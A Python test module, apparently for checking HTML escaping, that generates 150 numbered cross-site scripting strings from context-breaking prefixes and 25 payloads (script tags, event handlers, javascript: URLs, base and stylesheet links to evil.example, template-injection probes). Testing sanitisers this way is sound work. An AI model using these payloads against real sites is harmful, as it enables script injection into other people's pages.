"""A hundred and fifty texts that would run, or change the page, wherever they were taken for anything but text.

Each begins with its number, so that no two are alike, and calls alert() if it is run.
"""

ENDS = ["", '"', "'", "-->", "</script>", "</title></textarea></template></style>"]
"""What a text may have to get out of first: nothing, an attribute, a comment, an element."""

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=data:,alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<form action=javascript:alert(1)><button autofocus>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "&lt;script&gt;alert(1)&#x3c;/script>",
    "${alert(1)}`;alert(1)//",
]

ATTACKS = [f"{number}{end}{payload}" for number, (end, payload) in enumerate((e, p) for e in ENDS for p in PAYLOADS)]
